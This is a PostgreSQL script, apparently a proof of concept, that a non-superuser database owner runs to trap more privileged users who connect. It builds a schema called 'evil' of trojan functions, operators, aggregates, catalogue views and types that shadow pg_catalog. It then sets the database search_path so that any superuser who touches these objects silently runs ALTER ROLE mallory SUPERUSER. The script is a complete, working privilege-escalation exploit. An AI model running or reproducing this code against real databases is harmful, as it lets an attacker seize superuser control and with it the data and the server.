-- What the owner of a database can plant against whoever connects to it with more rights. Run in that database as its
-- owner, who is no superuser. Afterwards every name and every operator of pg_catalog means one of the owner's first.

CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.calls (role text, application text, object text);
GRANT INSERT ON evil.calls TO PUBLIC;

-- Makes the owner a superuser, with the rights of whoever calls it.
CREATE FUNCTION evil.strike(object text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $f$
BEGIN
    INSERT INTO evil.calls VALUES (current_user, current_setting('application_name'), object);
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE mallory SUPERUSER;
    END IF;
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN true;
END $f$;

-- Functions with the arguments of those of pg_catalog.
DO $do$
DECLARE
    f record;
    arguments text;
    result text;
BEGIN
    FOR f IN SELECT * FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' LOOP
        SELECT coalesce(string_agg(format_type(t, NULL), ', ' ORDER BY n), '') INTO arguments
            FROM unnest(f.proargtypes) WITH ORDINALITY AS a (t, n);
        result := CASE WHEN f.prorettype IN ('record'::regtype, 'void'::regtype) THEN 'text'
            ELSE format_type(f.prorettype, NULL) END;
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', f.proname, arguments,
                CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, result,
                format('BEGIN PERFORM evil.strike(%L); RETURN%s; END', 'function ' || f.proname,
                    CASE WHEN f.proretset THEN '' ELSE ' NULL' END));
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$;

-- Operators likewise.
DO $do$
DECLARE
    o record;
BEGIN
    FOR o IN SELECT * FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b' LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', 'operator_' || o.oid,
                format_type(o.oprleft, NULL), format_type(o.oprright, NULL), format_type(o.oprresult, NULL),
                format('BEGIN PERFORM evil.strike(%L); RETURN NULL; END', 'operator ' || o.oprname));
            EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)', o.oprname,
                format_type(o.oprleft, NULL), format_type(o.oprright, NULL), 'operator_' || o.oid);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$;

-- Aggregates.
DO $do$
DECLARE
    a record;
BEGIN
    CREATE FUNCTION evil.state(bigint) RETURNS bigint LANGUAGE plpgsql AS
        'BEGIN PERFORM evil.strike(''aggregate count(*)''); RETURN 0; END';
    CREATE AGGREGATE evil.count(*) (SFUNC = evil.state, STYPE = bigint, INITCOND = '0');
    FOR a IN SELECT p.proname, format_type(t, NULL) AS t FROM pg_proc p, unnest(p.proargtypes) AS t
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'a' AND p.pronargs = 1
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(bigint, %s) RETURNS bigint LANGUAGE plpgsql AS %L',
                'state_' || a.proname, a.t,
                format('BEGIN PERFORM evil.strike(%L); RETURN 0; END', 'aggregate ' || a.proname));
            EXECUTE format('CREATE AGGREGATE evil.%I(%s) (SFUNC = evil.%I, STYPE = bigint, INITCOND = ''0'')',
                a.proname, a.t, 'state_' || a.proname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$;

-- Views in place of the catalogue's tables and views.
DO $do$
DECLARE
    r record;
BEGIN
    FOR r IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
        BEGIN
            EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%1$I WHERE evil.strike(%L)', r.relname,
                'view ' || r.relname);
            EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', r.relname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $do$;

-- What PostgreSQL 15 with the extensions of earlier versions does not have in the extensions' own schema.
CREATE FUNCTION public.pg_prewarm(regclass) RETURNS bigint LANGUAGE plpgsql AS
    'BEGIN PERFORM evil.strike(''function public.pg_prewarm''); RETURN 0; END';
DO $do$
BEGIN
    CREATE FUNCTION public.pg_buffercache_summary(OUT buffers_used integer, OUT buffers_unused integer,
        OUT buffers_dirty integer, OUT buffers_pinned integer, OUT usagecount_avg double precision)
        LANGUAGE plpgsql AS 'BEGIN PERFORM evil.strike(''function public.pg_buffercache_summary''); END';
EXCEPTION WHEN duplicate_function OR insufficient_privilege THEN NULL;
END $do$;

-- Types last: the statements above mean those of pg_catalog.
DO $do$
DECLARE
    t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['text', 'float8', 'int8', 'int4', 'numeric', 'oid', 'name', 'regclass', 'regtype',
        'regprocedure', 'timestamptz', 'bool'] LOOP
        EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%1$I CHECK (evil.strike(%L))', t, 'type ' || t);
    END LOOP;
END $do$;

ALTER DATABASE shop SET search_path = evil, pg_catalog, public;
